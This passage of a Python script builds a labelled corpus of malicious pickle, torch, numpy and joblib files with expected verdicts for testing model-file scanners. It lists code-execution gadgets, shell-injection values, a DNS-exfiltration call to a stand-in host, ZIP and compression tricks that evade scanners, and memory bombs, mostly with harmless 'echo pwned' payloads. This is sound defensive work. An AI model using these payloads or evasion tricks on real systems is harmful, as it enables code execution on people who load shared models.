    ("pdb_run", "pdb", "run", (PAY,), MA_POC + " POC 27 (pdb.run)", "exec under the debugger"),
    ("trace_trace_run", "trace", "Trace.run", ({}, PAY), ps_ghsa("GHSA-5qwp-399c-mjwf"), "exec (unbound method)"),
    ("bdb_bdb_run", "bdb", "Bdb.run", ({}, PAY), PS + " Malicious15 (bdb.Bdb.run)", "exec (unbound method)"),
    ("doctest_debug_script", "doctest", "debug_script", (PAY, True), ps_ghsa("GHSA-fqq6-7vqf-w3fg"), "exec under pdb"),
    ("ctypes_cdll", "ctypes", "CDLL", (None,), ps_ghsa("GHSA-4675-36f9-wf6r") + "; " + MA_POC + " POC 25", "dlopen: native code"),
    ("shutil_rmtree", "shutil", "rmtree", (TMP + "/victim",), PS_LIST + " ('shutil': '*'); " + MA_LIST, "recursive delete"),
    ("shutil_move", "shutil", "move", (TMP + "/a", TMP + "/b"), MA_LIST + " (shutil move)", "moves files"),
    ("socket_create_connection", "socket", "create_connection", (("127.0.0.1", 9),), PS + " Malicious6 (socket.create_connection)", "network connection"),
    ("urllib_request_urlopen", "urllib.request", "urlopen", ("http://127.0.0.1:9/pickleproof-test",), PS + " reduce_urllib_request_urlopen", "HTTP request (SSRF/exfiltration)"),
    ("http_client_httpsconnection", "http.client", "HTTPSConnection", ("127.0.0.1",), PS + " Malicious3 (http.client.HTTPSConnection)", "network client"),
    ("smtplib_smtp", "smtplib", "SMTP", ("127.0.0.1",), "fickling GHSA-mxhj-88fx-4pcv; " + MA_LIST + " ('smtplib': '*')", "connects to an SMTP server"),
    ("ftplib_ftp", "ftplib", "FTP", ("127.0.0.1",), FK_LIST + " (ftplib)", "connects to an FTP server"),
    ("telnetlib_telnet", "telnetlib", "Telnet", ("127.0.0.1", 9), FK_LIST + " (telnetlib)", "connects a telnet session"),
    ("imaplib_imap4_stream", "imaplib", "IMAP4_stream", (CMD,), ps_ghsa("GHSA-g38g-8gr9-h9xp") + " (imaplib)", "runs the command via Popen(shell=True)"),
    ("webbrowser_open", "webbrowser", "open", ("http://127.0.0.1:9/pickleproof-test",), MS + " HIGH (webbrowser)", "launches a browser"),
    ("asyncio_unix_subprocess_start", "asyncio.unix_events", "_UnixSubprocessTransport._start", ({}, CMD, True, None, None, None, 0), ps_ghsa("GHSA-q77w-mwjj-7mqx") + "; GHSA-f7qq-56ww-84cr; CVE-2025-10157 (JFrog)", "Popen via the asyncio transport (submodule of a listed module)"),
    ("multiprocessing_spawnv_passfds", "multiprocessing.util", "spawnv_passfds", (b"/bin/sh", [b"/bin/sh", b"-c", b"echo pwned"], ()), "fickling GHSA-q5qq-mvfm-j35x (test_missing_multiprocessing)", "fork+exec"),
    ("thread_start_new_thread", "_thread", "start_new_thread", (G("os", "system"), (CMD,)), MA_POC + " POC 30", "runs os.system in a new thread"),
    ("posixsubprocess_fork_exec", "_posixsubprocess", "fork_exec", ([b"/bin/echo", b"pwned"], [b"/bin/echo"], True, (), None, None, -1, -1, -1, -1, -1, -1, -1, -1, False, False, None, None, None, -1, None, False), FK_LIST + " (_posixsubprocess); argument shape not exact for any CPython version", "raw fork/exec primitive"),
    ("sys_exit", "sys", "exit", (0,), PS + " Malicious8 (sys.exit)", "terminates the loader (DoS)"),
    ("numpy_runstring", "numpy.testing._private.utils", "runstring", (PAY, {}), PS + " Malicious22 (numpy.testing._private.utils.runstring)", "exec of source"),
    ("numpy_f2py_getlincoef", "numpy.f2py.crackfortran", "getlincoef", (PAY, []), ps_ghsa("GHSA-r8g5-cgf2-4m4m"), "eval of the expression"),
    ("venv_create", "venv", "create", (TMP + "/venv", False, False, True, False, "$(echo pwned)"), PS + " Malicious20 (venv.create)", "creates a venv (prompt injection)"),
    ("pip_main", "pip", "main", (["install", "--dry-run", "pickleproof-test-nonexistent"],), "CVE-2025-1716 (Sonatype: pip.main); " + PS + " Malicious16", "installs packages"),
    ("ensurepip_run_pip", "ensurepip", "_run_pip", (["--version"],), ps_ghsa("GHSA-xp4f-hrf8-rxw7"), "runs pip in a subprocess"),
    ("idlelib_pyshell_runcode", "idlelib.pyshell", "ModifiedInterpreter.runcode", ({}, PAY), ps_ghsa("GHSA-3gf5-cxq9-w223"), "exec (unbound method)"),
    ("idlelib_pyshell_runcommand", "idlelib.pyshell", "ModifiedInterpreter.runcommand", ({}, PAY), ps_ghsa("GHSA-j343-8v2j-ff7w"), "exec (unbound method)"),
    ("idlelib_autocomplete_get_entity", "idlelib.autocomplete", "AutoComplete.get_entity", ({}, PAY), ps_ghsa("GHSA-6w4w-5w54-rjvr"), "eval of the name"),
    ("idlelib_calltip_get_entity", "idlelib.calltip", "get_entity", (PAY,), ps_ghsa("GHSA-9xph-j2h6-g47v"), "eval of the expression"),
    ("idlelib_run_executive_runcode", "idlelib.run", "Executive.runcode", ({}, PAY), ps_ghsa("GHSA-m869-42cg-3xwr"), "exec (unbound method)"),
    ("idlelib_debugobj_settext", "idlelib.debugobj", "ObjectTreeItem.SetText", ({}, PAY), ps_ghsa("GHSA-3vg9-h568-4w9m"), "eval of the text"),
    ("lib2to3_make_label", "lib2to3.pgen2.pgen", "ParserGenerator.make_label", (None, {}, '""+' + PAY), ps_ghsa("GHSA-p9w7-82w4-7q8m"), "eval of the label"),
    ("distutils_write_file", "distutils.file_util", "write_file", (TMP + "/pwned_config.env", ["malicious content"]), ps_ghsa("GHSA-m273-6v24-x4m4"), "writes a file"),
    ("uuid_get_command_stdout", "uuid", "_get_command_stdout", ("echo", "pwned"), ps_ghsa("GHSA-g38g-8gr9-h9xp") + "; fickling GHSA-5hwf-rc88-82xm", "runs a command via Popen"),
    ("osx_support_read_output", "_osx_support", "_read_output", (CMD,), ps_ghsa("GHSA-g38g-8gr9-h9xp") + " (_osx_support)", "runs a shell command via os.system"),
    ("osx_support_find_build_tool", "_osx_support", "_find_build_tool", ("x; echo pwned #",), "fickling GHSA-5hwf-rc88-82xm (test_missing_osx_support)", "shell injection via os.system"),
    ("aix_support_read_cmd_output", "_aix_support", "_read_cmd_output", (CMD,), ps_ghsa("GHSA-g38g-8gr9-h9xp") + " (_aix_support)", "runs a shell command"),
    ("pyrepl_pager_pipe_pager", "_pyrepl.pager", "pipe_pager", ("text", CMD), ps_ghsa("GHSA-g38g-8gr9-h9xp") + " (_pyrepl, Python 3.13+)", "pipes text into a shell command"),
    ("test_support_assert_python_ok", "test.support.script_helper", "assert_python_ok", ("-c", "print('pwned')"), ps_ghsa("GHSA-g38g-8gr9-h9xp") + " (test package)", "spawns a Python subprocess"),
    ("pydoc_pipepager", "pydoc", "pipepager", ("", CMD), PS + " Malicious18 (pydoc.pipepager)", "pipes text into a shell command"),
    ("logging_filehandler", "logging", "FileHandler", (TMP + "/evil.log",), PS + " reduce_logging_FileHandler (CVE-2026-56304)", "creates a file"),
    ("io_fileio", "_io", "FileIO", ("/etc/hostname", "r"), PS + " reduce_io_FileIO (_io.FileIO)", "opens a file, bypassing builtins.open"),
    ("ssl_get_server_certificate", "ssl", "get_server_certificate", (("pwned.dns-logger.invalid", 443),), PS + " dns_exfiltration.npy (ssl.get_server_certificate)", "DNS/network exfiltration"),
    ("logging_config_listen", "logging.config", "listen", (9,), MA_POC + " POC 33 (logging.config.listen)", "opens a listener that accepts config (code)"),
    ("linecache_getline", "linecache", "getline", ("/etc/passwd", 1), MA_POC + " POC 32 (linecache.getline)", "reads a file"),
    ("zipimport_zipimporter", "zipimport", "zipimporter", (TMP + "/evil.zip",), MA_POC + " POC 34 (zipimport.zipimporter)", "imports code from a zip"),
    ("sqlite3_connect", "sqlite3", "connect", (TMP + "/x.db",), MA_LIST + " ('sqlite3': '*')", "creates/opens a database file"),
    ("xxsubinterpreters_run_string", "_xxsubinterpreters", "run_string", (0, PAY), "fickling GHSA-6ggj-6f2q-f7mx (private subinterpreter modules)", "exec in a subinterpreter"),
    ("requests_api_get", "requests.api", "get", ("http://127.0.0.1:9/pickleproof-test",), PS + " Malicious4 (requests.get pickles as requests.api.get)", "HTTP request"),
    ("aiohttp_clientsession", "aiohttp.client", "ClientSession", (), PS + " Malicious5; " + MS + " HIGH (aiohttp.client)", "HTTP client session"),
    ("torch_inductor_compile_file", "torch._inductor.codecache", "compile_file", ("", "", ["sh", "-c", "$(echo pwned)"]), PS + " Malicious17", "runs a compiler command"),
    ("torch_collect_env_run", "torch.utils.collect_env", "run", (CMD,), ps_ghsa("GHSA-f745-w6jp-hpxx"), "runs a shell command"),
    ("torch_collect_env_run_and_read_all", "torch.utils.collect_env", "run_and_read_all", (G("torch.utils.collect_env", "run"), CMD), ps_ghsa("GHSA-jhph-76pp-mggw"), "runs a shell command"),
    ("torch_jit_execwrapper", "torch.jit.unsupported_tensor_ops", "execWrapper", (PAY, {}, {}), ps_ghsa("GHSA-vr7h-p6mm-wpmh"), "exec of source"),
    ("torch_dynamo_guardbuilder_get", "torch._dynamo.guards", "GuardBuilder.get", ({}, PAY), ps_ghsa("GHSA-86cj-95qr-2p4f"), "eval of the name"),
    ("torch_fx_evaluate_guards_expression", "torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", ({}, PAY, []), ps_ghsa("GHSA-f4x7-rfwp-v3xw"), "eval of the expression"),
    ("torch_bottleneck_run_cprofile", "torch.utils.bottleneck.__main__", "run_cprofile", (PAY, {}), ps_ghsa("GHSA-4r9r-ch6f-vxmx"), "exec under cProfile"),
    ("torch_bottleneck_run_autograd_prof", "torch.utils.bottleneck.__main__", "run_autograd_prof", (PAY, {}), ps_ghsa("GHSA-4whj-rm5r-c2v8"), "exec under the autograd profiler"),
    ("torch_hub_load", "torch.hub", "load", ("pickleproof-test/none", "model"), FK_LIST + " (torch.hub: loads code from the web)", "downloads and runs hubconf.py"),
    ("torch_jit_parse_type_line", "torch.jit.annotations", "parse_type_line", ("# type: (" + PAY + ") -> None", None, None), "CVE-2022-45907 (" + MA + " cve_patterns.py)", "eval of a type comment"),
]


def gadgets():
    C = "gadget"
    for stem, module, qual, args, source, what in GADGETS:
        names = [f"{module}.{qual}"] + [f"{a.module}.{a.name}" for a in args if isinstance(a, G)]
        add(f"t_gadget_{stem}.pkl", call(module, qual, *args), C,
            f"STACK_GLOBAL {module}.{qual} + REDUCE: {what}", source, "unsafe", names)


# ===========================================================================
# 8. container
# ===========================================================================
DATE = (1980, 1, 1, 0, 0, 0)


def zip_bytes(members, compression=zipfile.ZIP_STORED):
    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate names are deliberate
        with zipfile.ZipFile(buf, "w") as z:
            for name, data in members:
                info = zipfile.ZipInfo(name, DATE)
                info.compress_type = compression
                z.writestr(info, data)
    return buf.getvalue()


def benign_state_dict():
    # An OrderedDict as a torch state dict would be written, without tensors (stdlib only).
    return PROTO(2) + glob("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + MARK + bu("epoch") + b"K\x03" + SETITEMS + STOP


def torch_members(name, data_pkl, extra=()):
    return [(f"{name}/data.pkl", data_pkl), (f"{name}/byteorder", b"little")] + list(extra) + [(f"{name}/version", b"3\n")]


def patch_flag_bits(data, member, bits):
    """Set general-purpose flag bits of `member` in its local and central headers."""
    out = bytearray(data)
    nb = member.encode()
    i = out.find(b"PK\x03\x04")
    while i != -1:
        n = struct.unpack_from("<H", out, i + 26)[0]
        if out[i + 30:i + 30 + n] == nb:
            struct.pack_into("<H", out, i + 6, struct.unpack_from("<H", out, i + 6)[0] | bits)
        i = out.find(b"PK\x03\x04", i + 4)
    i = out.find(b"PK\x01\x02")
    while i != -1:
        n = struct.unpack_from("<H", out, i + 28)[0]
        if out[i + 46:i + 46 + n] == nb:
            struct.pack_into("<H", out, i + 8, struct.unpack_from("<H", out, i + 8)[0] | bits)
        i = out.find(b"PK\x01\x02", i + 4)
    return bytes(out)


def patch_crc(data, member):
    out = bytearray(data)
    nb = member.encode()
    for sig, crc_off, name_off, len_off in ((b"PK\x03\x04", 14, 30, 26), (b"PK\x01\x02", 16, 46, 28)):
        i = out.find(sig)
        while i != -1:
            n = struct.unpack_from("<H", out, i + len_off)[0]
            if out[i + name_off:i + name_off + n] == nb:
                struct.pack_into("<I", out, i + crc_off, struct.unpack_from("<I", out, i + crc_off)[0] ^ 0xDEADBEEF)
            i = out.find(sig, i + 4)
    return bytes(out)


def legacy_torch(pickles):
    return b"".join(pickles)


LEGACY_MAGIC = PROTO(2) + b"\x8a\x0a" + (0x1950A86A20F9469CFC6C).to_bytes(10, "little") + b"." # LONG1
LEGACY_VERSION = PROTO(2) + b"M\xe9\x03."                                                    # BININT2 1001
LEGACY_SYSINFO = pkl({"protocol_version": 1001, "little_endian": True,
                      "type_sizes": {"short": 2, "int": 4, "long": 4}}, 2)
LEGACY_KEYS = pkl([], 2)


def lz4_frame(data):
    if not VENV_PYTHON.exists():
        return None
    r = subprocess.run([str(VENV_PYTHON), "-c",
                        "import sys, lz4.frame; sys.stdout.buffer.write(lz4.frame.compress(sys.stdin.buffer.read()))"],
                       input=data, capture_output=True)
    return r.stdout if r.returncode == 0 and r.stdout else None


SKIPPED = []


def containers():
    C = "container"
    M = MALICIOUS_P2
    chk = [(M, ["os.system"])]
    add("t_zip_pickle_member_named_txt.zip", zip_bytes([("data.txt", MALICIOUS_P4)]), C,
        "plain ZIP whose only member, data.txt, is a malicious pickle (extension gives no hint)",
        "CVE-2025-1889 (Sonatype: non-standard extension); " + PS + " malicious1_wrong_ext.zip", "unsafe", "os.system",
        streams=[(MALICIOUS_P4, ["os.system"])])
    add("t_zip_torch_pickle_in_non_pkl_member.pt",
        zip_bytes([("archive/byteorder", b"little"), ("archive/model.weights", M), ("archive/version", b"3\n")]), C,
        "torch-like ZIP without data.pkl whose pickle lives in archive/model.weights (torch.package's load_pickle reads "
        "any resource name)",
        "CVE-2025-1889; " + PS + " malicious1_wrong_ext.zip", "unsafe", "os.system", streams=chk)
    add("t_zip_torch_proto0_member.pt",
        zip_bytes(torch_members("archive", b"cos\nsystem\n(S'echo pwned'\ntR.")), C,
        "torch ZIP layout whose data.pkl is a protocol-0 pickle (no \\x80 PROTO magic to sniff)",
        "CVE-2025-10155 (JFrog: pickle detection by magic/extension); " + PS + " _pickle_magic_bytes", "unsafe", "os.system",
        streams=[(b"cos\nsystem\n(S'echo pwned'\ntR.", ["os.system"])])
    benign = zip_bytes(torch_members("archive", benign_state_dict()))
    add("t_zip_pickle_prepended.pt", M + benign, C,
        "malicious pickle glued in front of a benign torch ZIP: ZIP readers find the archive from the end, while torch.load "
        "sees no 'PK' magic at offset 0 and unpickles the file as a legacy stream",
        "fickling polyglot.py (PyTorch polyglots); " + PS + " pytorch_magic_bypass.pt", "unsafe", "os.system", streams=chk)
    add("t_zip_pickle_appended.pt", benign + M, C,
        "malicious pickle appended after a benign torch ZIP's end-of-central-directory: the archive still opens; the "
        "trailing stream must be scanned too",
        "fickling polyglot.py; ModelAudit multi-stream analysis (PR #581)", "unsafe", "os.system", streams=chk)
    add("t_zip_duplicate_member_names.pt",
        zip_bytes([("archive/data.pkl", benign_state_dict()), ("archive/byteorder", b"little"),
                   ("archive/data.pkl", M), ("archive/version", b"3\n")]), C,
        "two members named archive/data.pkl, the first benign, the second malicious: readers disagree on which one wins "
        "(Python's zipfile takes the last)",
        "CVE-2025-1944 class (Sonatype: ZIP name confusion); JFrog picklescan research", "unsafe", "os.system", streams=chk)
    z = zip_bytes(torch_members("archive", M))
    i = z.find(b"data.pkl")
    mism = z[:i] + b"datap.kl" + z[i + 8:]
    add("t_zip_local_central_name_mismatch.pt", mism, C,
        "local file header names the member archive/datap.kl while the central directory says archive/data.pkl (Python's "
        "zipfile refuses to read it; torch's reader goes by the central directory)",
        "CVE-2025-1944 (Sonatype); " + PS + " malicious1_central_directory.zip", "unsafe", "os.system", streams=chk)
    add("t_zip_flag_bit_encrypted.pt", patch_flag_bits(z, "archive/data.pkl", 0x1), C,
        "stored data.pkl with general-purpose flag bit 0x1 (encrypted) set in both headers, data in clear: zipfile demands a "
        "password, torch ignores the flag",
        "CVE-2025-1945 (Sonatype: ZIP flag bits); " + PS + " malicious1_0x1.zip", "unsafe", "os.system", streams=chk)
    add("t_zip_flag_bit_0x20.pt", patch_flag_bits(z, "archive/data.pkl", 0x20), C,
        "stored data.pkl with flag bit 0x20 (compressed patched data) set: zipfile refuses, torch reads it",
        "CVE-2025-1945; " + PS + " malicious1_0x20.zip", "unsafe", "os.system", streams=chk)
    add("t_zip_bad_crc.pt", patch_crc(z, "archive/data.pkl"), C,
        "stored data.pkl whose CRC-32 in both headers is wrong: zipfile raises 'Bad CRC-32' on read (a scanner that skips "
        "the member on that error misses it), torch does not check",
        "CVE-2025-10156 (JFrog: ZIP CRC bypass); " + PS + " malicious1_crc.zip", "unsafe", "os.system", streams=chk)
    add("t_zip_torch_deflated_malicious.pt", zip_bytes(torch_members("archive", M), zipfile.ZIP_DEFLATED), C,
        "torch ZIP layout with DEFLATE compression whose data.pkl is malicious (torch's reader inflates; a scanner that cannot "
        "must answer inconclusive, not clean)",
        "modelscan tests/data/unsafe_zip_pytorch.pt; " + PS + " malicious1.zip", "unsafe", "os.system", streams=chk)
    add("t_torch_legacy_sysinfo_malicious.pt",
        legacy_torch([LEGACY_MAGIC, LEGACY_VERSION, MALICIOUS_P2, benign_state_dict(), LEGACY_KEYS]), C,
        "legacy (pre-1.6) torch file: magic pickle, version pickle, then a sys_info pickle (the 3rd stream) that calls "
        "os.system — torch unpickles it with the full unpickler before the model",
        "picklescan torch.py legacy scan; PyTorch 2.6 (CVE-2025-32434 fix release) refuses weights_only=True on legacy files",
        "unsafe", "os.system", streams=chk)
    magic_eval = call("builtins", "eval", "0x1950A86A20F9469CFC6C", proto=2)
    add("t_torch_legacy_magic_via_eval.pt",
        legacy_torch([magic_eval, LEGACY_VERSION, LEGACY_SYSINFO, benign_state_dict(), LEGACY_KEYS, M]), C,
        "legacy torch file whose magic number is produced by builtins.eval('0x1950A86A20F9469CFC6C') in the first pickle, "
        "with a malicious 6th stream after the storage keys",
        PS + " pytorch_magic_bypass.pt (magic via eval/__reduce__)", "unsafe", ["builtins.eval", "os.system"],
        streams=[(magic_eval, ["builtins.eval"]), (M, ["os.system"])])
    add("t_torch_legacy_keys_malicious.pt",
        legacy_torch([LEGACY_MAGIC, LEGACY_VERSION, LEGACY_SYSINFO, benign_state_dict(), M]), C,
        "legacy torch file whose 5th pickle (the storage-keys list) calls os.system",
        "picklescan torch.py legacy scan (every stream)", "unsafe", "os.system", streams=chk)
    add("t_torchscript_constants_malicious.pt",
        zip_bytes([("archive/data.pkl", benign_state_dict()),
                   ("archive/code/__torch__/model.py", b"class Model(Module):\n  def forward(self, x):\n    return x\n"),
                   ("archive/constants.pkl", M), ("archive/version", b"3\n")]), C,
        "TorchScript-like archive (code/__torch__/*.py, data.pkl) whose constants.pkl is a malicious pickle",
        "fickling pytorch.py (TorchScript detection); ModelAudit pytorch_zip_scanner.py (scans every .pkl member)", "unsafe",
        "os.system", streams=chk)
    add("t_torch_injected_payload_then_state_dict.pt",
        zip_bytes(torch_members("archive", PROTO(2) + glob("os", "system") + bu(CMD) + TUPLE1 + REDUCE + POP
                                + benign_state_dict()[2:])), C,
        "torch ZIP whose data.pkl first calls os.system and POPs the result, then builds the real state dict: the model "
        "loads normally",
        "modelscan tests (PickleInject, first=True); fickling pytorch.py inject_payload; " + MA + " malicious.pt-style",
        "unsafe", "os.system",
        streams=[(PROTO(2) + glob("os", "system") + bu(CMD) + TUPLE1 + REDUCE + POP + benign_state_dict()[2:], ["os.system"])])
    npy = npy_object(M)
    add("t_npy_object_dtype.npy", npy, C,
        ".npy v1.0 with object dtype ('|O'): the body after the header is a pickle that calls os.system "
        "(numpy.load(allow_pickle=True) unpickles it)",
        PS + " object_array.npy / dns_exfiltration.npy; modelscan NumpyUnsafeOpScan", "unsafe", "os.system", streams=chk)
    add("t_npz_stored.npz", zip_bytes([("arr_0.npy", npy)]), C,
        ".npz (stored ZIP) holding arr_0.npy with object dtype and a malicious pickle body",
        PS + " object_arrays.npz", "unsafe", "os.system", streams=chk)
    add("t_npz_deflated.npz", zip_bytes([("arr_0.npy", npy)], zipfile.ZIP_DEFLATED), C,
        ".npz written like numpy.savez_compressed (DEFLATE) holding the malicious object .npy",
        PS + " object_arrays_compressed.npz", "unsafe", "os.system", streams=chk)
    add("t_joblib_zlib.joblib", zlib.compress(M, 3), C,
        "joblib file compressed with zlib (joblib's 'zlib' compressor: raw zlib stream, 0x78 prefix) whose pickle calls "
        "os.system", "CVE-2020-13092 (joblib.load); modelscan/picklescan '.joblib' extension handling", "unsafe", "os.system",
        streams=chk)
    lz = lz4_frame(M)
    if lz:
        add("t_joblib_lz4.joblib", lz, C,
            "joblib file compressed with LZ4 (frame magic 04 22 4d 18) whose pickle calls os.system",
            "CVE-2020-13092 (joblib.load); joblib compressor 'lz4'", "unsafe", "os.system", streams=chk)
    else:
        SKIPPED.append("t_joblib_lz4.joblib (lz4 module not available)")
    add("t_gzip_wrapped.pkl.gz", gzip.compress(M, mtime=0), C,
        "gzip-wrapped malicious pickle", "ModelAudit compressed-format scanning; nullifAI (compressed wrapper to evade scanners)",
        "unsafe", "os.system", streams=chk)
    add("t_bz2_wrapped.pkl.bz2", bz2.compress(M), C,
        "bzip2-wrapped malicious pickle", "nullifAI (compressed wrapper to evade scanners)", "unsafe", "os.system", streams=chk)
    add("t_xz_wrapped.pkl.xz", lzma.compress(M), C,
        "xz-wrapped malicious pickle", "nullifAI (compressed wrapper to evade scanners)", "unsafe", "os.system", streams=chk)
    add("t_pickle_with_bin_extension.bin", MALICIOUS_P4, C,
        "a raw (non-ZIP) malicious pickle named .bin, the PyTorch extension (a scanner that routes .bin to the torch path "
        "and fails on the missing legacy magic skips it)",
        "CVE-2025-10155 (JFrog); " + MA + " tests/test_cve_2025_10155_bin_pickle.py; picklescan GHSA-jgw4-cr84-mqxg.bin",
        "unsafe", "os.system", streams=[(MALICIOUS_P4, ["os.system"])])


# ===========================================================================
# 9. resource
# ===========================================================================
def resource():
    C = "resource"
    pay = glob("os", "system") + bu(CMD) + TUPLE1 + REDUCE
    add("t_res_long_binput_near_2p32_then_payload.pkl",
        PROTO(2) + NONE + LONG_BINPUT(0xFFFFFFFE) + POP + pay + STOP,
        C, "LONG_BINPUT 0xfffffffe (the C unpickler sizes its dense memo array to the index: ~32-64 GiB, MemoryError) then "
        "os.system: the pure-Python unpickler (dict memo) runs the payload",
        CPY + " _Unpickler_MemoPut (dense memo); corpus/bombs memo_long_binput_ffffffff", "unsafe", "os.system")
    add("t_res_long_binput_near_2p32.pkl",
        PROTO(2) + NONE + LONG_BINPUT(0xFFFFFFF0) + POP + NONE + LONG_BINPUT(0xFFFFFFFF) + STOP,
        C, "two LONG_BINPUTs at 0xfffffff0 and 0xffffffff and nothing else: a memo that must be sparse",
        CPY + " _Unpickler_MemoPut", "inconclusive", [], names=[])
    body = PROTO(4) + pay + MEMOIZE + POP + b"".join(
        BINGET(lv - 1) + BINGET(lv - 1) + TUPLE2 + MEMOIZE + (POP if lv < 100 else b"") for lv in range(1, 101)) + STOP
    add("t_res_memo_expansion_2p100.pkl", body, C,
        "100 levels of (prev, prev) tuples through MEMOIZE/BINGET over an os.system call result: ~1.3e30 leaves when walked "
        "as a tree, ~600 bytes as a stream (the call runs once)",
        "fickling test_expansion_attack_analysis (billionLaughsAlt.pkl memo expansion)", "unsafe", "os.system")
    n = 20000
    add("t_res_deep_list_nesting.pkl",
        PROTO(2) + EMPTY_LIST * n + pay + APPEND * n + STOP,
        C, f"{n} nested lists (EMPTY_LIST x{n}, payload, APPEND x{n}); the innermost list holds an os.system call result — "
        "far deeper than recursive walkers (repr, json, CPython's recursion limit) can go",
        "fickling test_expansion_attack_analysis; corpus/bombs nest_list_1m", "unsafe", "os.system")
    n = 15000
    add("t_res_deep_mark_nesting.pkl",
        PROTO(2) + MARK * n + pay + TUPLE * n + STOP,
        C, f"{n} nested MARK ... TUPLE groups around an os.system call (deep mark stack)",
        "corpus/bombs nest_marks_1m", "unsafe", "os.system")
    reps = 3000
    add("t_res_repeated_calls.pkl",
        PROTO(2) + glob("os", "system") + BINPUT(0) + POP + bu(CMD) + BINPUT(1) + POP
        + (BINGET(0) + BINGET(1) + TUPLE1 + REDUCE + POP) * reps + NONE + STOP,
        C, f"os.system('echo pwned') called {reps} times from memo (a report that lists every call site must be bounded)",
        "fickling test_expansion_attack_analysis (high GET/PUT ratio)", "unsafe", "os.system")
    add("t_res_frame_claim_then_payload.pkl",
        PROTO(4) + FRAME(1 << 40) + pay + STOP,
        C, "FRAME claiming 2^40 bytes followed by os.system: the C unpickler fails reading the frame, the pure-Python one "
        "reads what exists and runs the payload",
        CPY + " load_frame / _Unframer; corpus/bombs claim_frame_*", "unsafe", "os.system")
    zeros = 16 << 20
    raw = PROTO(4) + b"\x8e" + struct.pack("<Q", zeros) + bytes(zeros) + POP + pay + STOP
    add("t_res_gzip_16mib_then_payload.pkl.gz", gzip.compress(raw, 9, mtime=0), C,
        "gzip of a pickle holding 16 MiB of zero bytes (BINBYTES8) and then an os.system call: ~16 KiB on disk",
        "decompression bomb; nullifAI (compressed wrapper)", "unsafe", "os.system",
        streams=[(PROTO(4) + b"\x8e" + struct.pack("<Q", 0) + POP + pay + STOP, ["os.system"])])
    big = 512 << 20
    comp = bz2.BZ2Compressor(9)
    out = [comp.compress(PROTO(4) + b"\x8e" + struct.pack("<Q", big))]
    chunk = bytes(16 << 20)
    for _ in range(big // len(chunk)):
        out.append(comp.compress(chunk))
    out.append(comp.compress(STOP))
    out.append(comp.flush())
    add("t_res_bz2_512mib_bomb.pkl.bz2", b"".join(out), C,
        "bzip2 of a pickle whose BINBYTES8 holds 512 MiB of zeros: a few hundred bytes on disk; a scanner must stop on a "
        "decompression budget",
        "decompression bomb; corpus/bombs claim_binbytes8_512mib", "inconclusive", [], streams=[])


# ===========================================================================
# The 21 files written by corpus/generate.py
# ===========================================================================
EXISTING = {
    "p0_global_reduce_os_system.pkl": ("global-spelling", "protocol 0 GLOBAL os.system + REDUCE", PS + " malicious2_v0.pkl", "unsafe", ["os.system"]),
    "p0_inst_os_system.pkl": ("global-spelling", "protocol 0 INST os.system: INST calls the class with the MARKed args", PS + " malicious10.pkl (INST)", "unsafe", ["os.system"]),
    "p1_obj_os_system.pkl": ("global-spelling", "protocol 1 OBJ: os.system from GLOBAL after the MARK, args after it", "fickling PR #108 (MARK, GLOBAL, OBJ)", "unsafe", ["os.system"]),
    "p4_stack_global_from_memo_os_system.pkl": ("global-spelling", "STACK_GLOBAL whose module and name strings come from memo BINGETs", "picklescan issue #22 (ImaginaryCTF Safe Pickle)", "unsafe", ["os.system"]),
    "p4_stack_global_builtins_eval.pkl": ("global-spelling", "protocol 4 STACK_GLOBAL builtins.eval from SHORT_BINUNICODE", PS + " malicious1_v4.pkl", "unsafe", ["builtins.eval"]),
    "p0_py2_builtin_eval.pkl": ("global-spelling", "Python 2 name __builtin__.eval with no PROTO (protocol 0): mapped to builtins.eval", PS + " malicious1_v0.pkl; " + CPY_COMPAT, "unsafe", ["builtins.eval"]),
    "p2_py2_builtin_eval.pkl": ("global-spelling", "protocol 2 GLOBAL __builtin__.eval: below 3, so mapped to builtins.eval", PS_LIST + " ('__builtin__' entries); " + CPY_COMPAT, "unsafe", ["builtins.eval"]),
    "p3_builtin_eval_unmapped.pkl": ("global-spelling", "protocol 3 GLOBAL __builtin__.eval: fix_imports applies only below 3, the name stays raw (dangerous by name)", CPY_COMPAT, "unsafe", ["__builtin__.eval"]),
    "stack_global_py2_name_no_proto.pkl": ("global-spelling", "STACK_GLOBAL __builtin__.eval in a stream with no PROTO (protocol 0): mapped to builtins.eval", CPY_COMPAT + "; " + CPY + " find_class", "unsafe", ["builtins.eval"]),
    "p2_newobj_subprocess_popen.pkl": ("global-spelling", "NEWOBJ subprocess.Popen(['echo', 'pwned'])", PS_LIST + " ('subprocess': '*')", "unsafe", ["subprocess.Popen"]),
    "p0_builtins_getattr.pkl": ("indirection", "GLOBAL builtins.getattr applied to the allowed builtins.set", PS_LIST + " (builtins.getattr)", "unsafe", ["builtins.getattr"]),
    "p0_dotted_module_os_path_join.pkl": ("global-spelling", "GLOBAL with a dotted module: os.path.join", MA_LIST + " (posixpath/ntpath aliases)", "unsafe", ["os.path.join"]),
    "p4_dotted_name_from_allowed_prefix.pkl": ("global-spelling", "protocol 4 dotted name builtins 'set.__class__.__subclasses__': starts with the allowed builtins.set, must be matched as a whole", FK + " GHSA-5j3x-jp52-966f (dotted names)", "unsafe", ["builtins.set.__class__.__subclasses__"]),
    "p0_posix_system.pkl": ("global-spelling", "posix.system: os.system's home module on Unix", PS_LIST + " ('posix': alias for 'os'); " + MS, "unsafe", ["posix.system"]),
    "p0_nt_system.pkl": ("global-spelling", "nt.system: os.system's home module on Windows", PS_LIST + " ('nt': alias for 'os'); " + MS, "unsafe", ["nt.system"]),
    "p0_builtin_import.pkl": ("indirection", "__builtin__.__import__('os'), mapped to builtins.__import__", MS + " (builtins __import__); " + FK + " GHSA-h4rm-mm56-xf63", "unsafe", ["builtins.__import__"]),
    "p0_copyreg_reconstructor.pkl": ("indirection", "copy_reg._reconstructor(subprocess.Popen, object, None): copy_reg mapped to copyreg, first in the stream", CPY_COMPAT + "; " + CPY + " copyreg._reconstructor", "unsafe", ["copyreg._reconstructor", "subprocess.Popen"]),
    "p0_getattr_import_chain.pkl": ("indirection", "getattr(__import__('os'), 'system')('echo pwned') built with REDUCE; getattr is the first global", FK + " GHSA-h4rm-mm56-xf63", "unsafe", ["builtins.getattr", "builtins.__import__", "os.system"]),
